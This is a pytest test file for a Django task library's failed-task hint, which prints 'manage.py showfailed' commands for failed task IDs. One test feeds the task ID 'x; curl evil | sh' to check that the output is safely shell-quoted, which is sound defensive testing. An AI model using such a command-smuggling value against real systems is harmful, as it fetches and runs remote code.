from __future__ import annotations

import threading
from types import SimpleNamespace
from typing import Any

import pytest
from django.core.management import call_command
from django.utils import timezone

from tasktools.exceptions import TaskFailed, TasktoolsError, Unreachable
from tasktools.failures import found, storage
from tasktools.management import failed_hint
from tasktools.management.failed_hint import note_failed, noting_failed
from tasktools.models import FailedTask
from tasktools.results.outcome import Outcome


def noted(*outcomes: Outcome, as_json: bool = False) -> list[str]:
    lines: list[str] = []
    command: Any = SimpleNamespace(as_json=as_json, note=lines.append)
    note_failed(command, outcomes)
    return lines


def outcome(task_id: str, state: str = "FAILURE") -> Outcome:
    return Outcome(id=task_id, state=state)


@pytest.mark.django_db(transaction=True)
def test_note__of_those_that_are_in_the_table_and_have_not_succeeded() -> None:
    for each in ("kept", "kept", "done", "lost"):
        FailedTask.objects.create(task_id=each, failed_at=timezone.now(), message="{}")
    said = noted(outcome("lost", "PENDING"), outcome("done", "SUCCESS"), outcome("never"), outcome("kept"))
    assert said == [f"{each} is in the table of failed tasks: manage.py showfailed {each}" for each in ("lost", "kept")]
    assert noted(outcome("kept"), as_json=True) == []


@pytest.mark.django_db(transaction=True)
def test_note__names_some_of_many() -> None:
    ids = [f"id-{number}" for number in range(7)]
    for each in ids:
        FailedTask.objects.create(task_id=each, failed_at=timezone.now(), message="{}")
    said = noted(*map(outcome, ids))
    assert len(said) == 6
    assert said[-1] == "2 more of them are in it: manage.py showfailed --state all"


@pytest.mark.django_db(transaction=True)
def test_note__without_the_table_says_nothing() -> None:
    call_command("migrate", "tasktools", "zero", verbosity=0)
    try:
        assert noted(outcome("kept")) == []
    finally:
        call_command("migrate", "tasktools", verbosity=0)


def test_note__of_a_database_that_is_away_or_slow(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the mark of a database, this test has none."""
    assert noted(outcome("kept")) == []
    released = threading.Event()
    monkeypatch.setattr(failed_hint, "LIMIT", 0.02)
    monkeypatch.setattr(found, "among", lambda ids: released.wait(30) and set(ids))
    assert noted(outcome("kept")) == []
    released.set()


def test_note__of_what_has_succeeded_asks_no_database(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Any] = []
    monkeypatch.setattr(found, "among", asked.append)
    assert noted(outcome("done", "SUCCESS")) == []
    assert asked == []


@pytest.mark.django_db(transaction=True)
def test_note__quotes_what_a_stranger_has_chosen() -> None:
    for each in ("x; curl evil | sh", "-x"):
        FailedTask.objects.create(task_id=each, failed_at=timezone.now(), message="{}")
    first, second = noted(outcome("x; curl evil | sh"), outcome("-x"))
    assert first.endswith(": manage.py showfailed 'x; curl evil | sh'")
    assert second.endswith(": manage.py showfailed -- -x")


@pytest.mark.parametrize("is_off", [True, False])
def test_note__where_nothing_is_recorded_asks_no_database(
    monkeypatch: pytest.MonkeyPatch, settings: Any, is_off: bool
) -> None:
    asked: list[Any] = []
    monkeypatch.setattr(found, "among", lambda ids: asked.append(ids) or set())
    if is_off:
        settings.TASKTOOLS_FAILED = False
    else:
        monkeypatch.setattr(storage, "is_configured", lambda: False)
    assert noted(outcome("kept")) == []
    assert asked == []


def test_noting__of_a_backend_that_goes_and_of_no_verdict(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Any] = []
    monkeypatch.setattr(failed_hint, "_note", lambda command, ids: asked.append(ids))
    command: Any = SimpleNamespace()
    for error in (TaskFailed("It failed."), Unreachable("It is gone.")):
        with pytest.raises(TasktoolsError), noting_failed(command, ["one"]):
            raise error
    assert asked == [["one"]]
